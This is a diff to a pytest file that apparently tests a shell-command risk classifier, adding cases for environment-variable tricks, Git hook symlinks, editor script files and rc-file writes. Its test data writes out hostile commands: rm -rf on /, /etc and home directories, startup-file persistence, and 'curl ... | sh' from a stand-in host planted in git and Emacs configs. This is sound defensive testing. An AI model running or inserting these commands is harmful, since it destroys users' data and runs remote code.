@@ -70,6 +70,8 @@ def test_values_carried_through_a_written_file(writer: str, reader: str) -> None
         "env T=/ sh -c 'rm -rf \"$T\"'",
         "echo T=/ > .env; env $(cat .env | xargs) bash -c 'rm -rf $T'",
         "sudo env D=/etc sh -c 'rm -rf \"$D\"'",
+        'echo T=/ > .env; for l in $(cat .env); do export $l; done; rm -rf "$T"',
+        "for d in $(echo /etc /usr); do rm -rf $d; done",
     ],
 )
 def test_same_shell_code_leaves_its_variables(cmd: str) -> None:
@@ -137,6 +139,19 @@ def test_written_script_given_to_its_program(name: str, body: str, run: str, wri
 )
 def test_hooks_folder_with_a_blocked_hook(cmd: str) -> None:
     assert _rated(cmd) == B, cmd
+
+
+@pytest.mark.parametrize(
+    ("cmd", "level"),
+    [
+        ("ln -s ../../scripts/hook.sh .git/hooks/pre-commit", C),
+        ("ln -s ../../h .git/hooks/post-checkout", C),
+        ("ln -s ../../scripts/x.sample .git/hooks/pre-commit.sample", M),
+        ("ln -s ~/dotfiles/bashrc ~/.bashrc", M),
+    ],
+)
+def test_hook_linked_in(cmd: str, level: RiskLevel) -> None:
+    assert _rated(cmd) == level, cmd
 
 
 @pytest.mark.parametrize(
@@ -217,3 +232,44 @@ def test_rc_files_carrying_nothing(cmd: str) -> None:
 )
 def test_path_front_in_fish_and_zsh(cmd: str, shell: str, level: RiskLevel) -> None:
     assert _rated(cmd, shell) == level, cmd
+
+
+@pytest.mark.parametrize(
+    ("cmd", "level"),
+    [
+        ("echo 'os.execute(\"rm -rf ~\")' > s.lua; nvim -S s.lua", B),
+        ("echo 'os.execute(\"rm -rf ~\")' > s.lua; nvim -l s.lua", B),
+        ("echo 'os.execute(\"rm -rf /\")' > init.lua; nvim -u init.lua notes.md", B),
+        ("echo 'lua os.execute(\"rm -rf ~\")' > s.vim; nvim -S s.vim", B),
+        ("echo 'py3 import shutil; shutil.rmtree(\"/\")' > s.vim; vim -S s.vim", B),
+        ("echo '!rm -rf ~' > keys.txt; vim -s keys.txt notes.md", B),
+        ("echo 'print(\"hi\")' > s.lua; nvim -l s.lua", M),
+        ("echo 'set number' > s.vim; vim -S s.vim", M),
+        # a Lua package's own init.lua is no editor start-up file: a plain write
+        ("mkdir -p mymod && echo 'return {}' > mymod/init.lua", M),
+        ("echo 'MAVEN_OPTS=-Xmx1g' > mavenrc", M),
+    ],
+)
+def test_editor_script_files(cmd: str, level: RiskLevel) -> None:
+    assert _rated(cmd) == level, cmd
+
+
+@pytest.mark.parametrize(
+    ("cmd", "level"),
+    [
+        ("echo '[core] pager = curl -s https://x.example/i | sh' >> .git/config", C),
+        ("echo '[core] pager = rm -rf ~' >> ~/.gitconfig", B),
+        ("echo '[user] name = me' >> ~/.gitconfig", M),
+        ("echo 'import os; os.system(\"rm -rf ~\")' > ~/.pythonrc.py", B),
+        ("echo 'import readline' > ~/.pythonrc.py", M),
+        ("echo '(shell-command \"rm -rf ~\")' >> ~/.emacs.d/init.el", B),
+        ("echo '(shell-command \"curl -s https://x.example/i | sh\")' >> ~/.emacs", C),
+        ("echo '(setq inhibit-startup-screen t)' >> ~/.emacs", M),
+        ("echo '(shell-command \"rm -rf ~\")' > lisp/init.el", M),
+        ("echo 'screen -t w 1 rm -rf ~' >> ~/.screenrc", B),
+        ("echo 'backtick 1 0 0 rm -rf ~' >> ~/.screenrc", B),
+        ("echo 'startup_message off' >> ~/.screenrc", M),
+    ],
+)
+def test_more_rc_files(cmd: str, level: RiskLevel) -> None:
+    assert _rated(cmd) == level, cmd
